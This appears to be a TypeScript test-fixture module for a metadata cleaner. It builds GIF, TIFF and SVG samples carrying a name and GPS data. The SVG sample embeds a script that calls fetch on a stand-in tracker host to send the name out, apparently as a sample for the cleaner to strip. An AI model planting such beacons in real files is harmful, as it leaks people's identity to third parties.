// Pictures of the formats documents carry beside JPEG, PNG and WebP, built here so the tests can see every byte: a
// real 4×2 GIF (encoded below, any decoder shows it) and the same GIF with what editors add (comments, XMP, an ICC
// profile, drawn text, data after the end); a TIFF whose IFD points to a GPS position; an SVG with <metadata> and a
// script. Each carries "Jane Doe" or the GPS bytes of test-images.ts, which no cleaned document may hold.
import { exifWithGps, xmp } from './test-images.ts';
import { gifColourTableBytes, gifSubBlocksEnd } from './strip-gif.ts';

/** Red, green, blue, white: the global colour table, and the 4×2 pixels that index it. */
export const gifPalette = [[255, 0, 0], [0, 255, 0], [0, 0, 255], [255, 255, 255]] as const;
export const gifPixels = [0, 1, 2, 3, 3, 2, 1, 0] as const;

function subBlocks(data: Buffer): Buffer {
  const blocks: Buffer[] = [];
  for (let at = 0; at < data.length; at += 255) {
    const part = data.subarray(at, at + 255);
    blocks.push(Buffer.from([part.length]), part);
  }
  return Buffer.concat([...blocks, Buffer.from([0])]);
}

/**
 * LZW without compression: a clear code before every second pixel keeps the table from reaching 8 entries, so every
 * code stays 3 bits wide (minimum code size 2: codes 0–3 are colours, 4 clears, 5 ends).
 */
function lzw(pixels: readonly number[]): Buffer {
  const codes: number[] = [];
  pixels.forEach((pixel, i) => {
    if (i % 2 === 0) codes.push(4);
    codes.push(pixel);
  });
  codes.push(5);
  const bytes: number[] = [];
  let accumulator = 0;
  let bits = 0;
  for (const code of codes) {
    accumulator |= code << bits;
    bits += 3;
    while (bits >= 8) {
      bytes.push(accumulator & 0xff);
      accumulator >>= 8;
      bits -= 8;
    }
  }
  if (bits > 0) bytes.push(accumulator & 0xff);
  return Buffer.from(bytes);
}

const screen = (): Buffer => {
  const descriptor = Buffer.from([4, 0, 2, 0, 0x80 | 0x01, 0, 0]); // 4×2, global table of 2^(1+1) colours
  return Buffer.concat([Buffer.from('GIF89a', 'latin1'), descriptor, Buffer.from(gifPalette.flat())]);
};
const graphicControl = (delay: number) => Buffer.from([0x21, 0xf9, 4, 0, delay, 0, 0, 0]);
const image = (): Buffer => Buffer.concat([
  Buffer.from([0x2c, 0, 0, 0, 0, 4, 0, 2, 0, 0]), // at 0,0, 4×2, no local table
  Buffer.from([2]), subBlocks(lzw(gifPixels)),
]);
const extension = (label: number, body: Buffer) => Buffer.concat([Buffer.from([0x21, label]), subBlocks(body)]);
const application = (id: string, body: Buffer) => Buffer.concat([Buffer.from([0x21, 0xff, 11]), Buffer.from(id, 'latin1'), subBlocks(body)]);

export const cleanGif = (): Buffer => Buffer.concat([screen(), graphicControl(10), image(), Buffer.from([0x3b])]);

/** The clean GIF as an editor leaves it: looping, comments, XMP, an ICC profile, a caption drawn as plain text. */
export function gifWithMetadata(): Buffer {
  const plainText = Buffer.concat([Buffer.from([12, 0, 0, 0, 0, 4, 0, 2, 0, 4, 8, 1, 0]), Buffer.from([8]), Buffer.from('Jane Doe', 'latin1'), Buffer.from([0])]);
  return Buffer.concat([
    screen(),
    application('NETSCAPE2.0', Buffer.from([1, 0, 0])), // loop forever
    extension(0xfe, Buffer.from('Jane Doe, Geneva', 'latin1')),
    application('XMP DataXMP', Buffer.from(xmp, 'utf8')),
    application('ICCRGBG1012', Buffer.from('Jane Doe calibrated profile', 'latin1')),
    graphicControl(99), Buffer.from([0x21, 0x01]), plainText, // a caption the next image must not inherit the timing of
    graphicControl(10), image(),
    extension(0x99, Buffer.from('an extension nobody knows: Jane Doe', 'latin1')),
    Buffer.from([0x3b]),
    Buffer.from('Jane Doe hidden after the end', 'latin1'),
  ]);
}

export interface GifBlock {
  kind: 'image' | 'graphic-control' | 'comment' | 'plain-text' | 'application' | 'unknown';
  bytes: Buffer;
}

/** Every block of a GIF in order, checking each length, that the trailer ends the file and nothing follows it. */
export function gifBlocks(data: Buffer): GifBlock[] {
  if (!['GIF87a', 'GIF89a'].includes(data.subarray(0, 6).toString('latin1'))) throw new Error('not a GIF');
  let at = 13 + gifColourTableBytes(data[10]!);
  const blocks: GifBlock[] = [];
  while (data[at] !== 0x3b) {
    const start = at;
    let kind: GifBlock['kind'];
    if (data[at] === 0x2c) {
      kind = 'image';
      at = gifSubBlocksEnd(data, at + 10 + gifColourTableBytes(data[at + 9]!) + 1) ?? NaN;
    } else if (data[at] === 0x21) {
      kind = ({ 0xf9: 'graphic-control', 0xfe: 'comment', 0x01: 'plain-text', 0xff: 'application' } as const)[data[at + 1]!] ?? 'unknown';
      at = gifSubBlocksEnd(data, at + 2) ?? NaN;
    } else {
      throw new Error(`no block starts at ${at}`);
    }
    if (Number.isNaN(at)) throw new Error(`the block at ${start} is cut short`);
    blocks.push({ kind, bytes: data.subarray(start, at) });
  }
  if (at !== data.length - 1) throw new Error('bytes follow the trailer');
  return blocks;
}

/** A TIFF (as a scanner or camera writes one) whose first IFD points to a GPS IFD: EXIF is the TIFF's own structure. */
export const tiffWithGps = (): Buffer => exifWithGps().subarray(6);

/** An SVG with RDF metadata naming its author, a script and a picture of its own. */
export const svgWithMetadata = (): Buffer => Buffer.from(
  '<?xml version="1.0" encoding="UTF-8"?>\n<!-- Created with Inkscape -->\n'
  + '<svg xmlns="http://www.w3.org/2000/svg" xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dc="http://purl.org/dc/elements/1.1/" width="40" height="20">'
  + '<metadata><rdf:RDF><rdf:Description><dc:creator>Jane Doe</dc:creator></rdf:Description></rdf:RDF></metadata>'
  + '<script>fetch("https://tracker.example/?who=Jane%20Doe")</script><rect width="40" height="20" fill="red"/></svg>',
  'utf8',
);
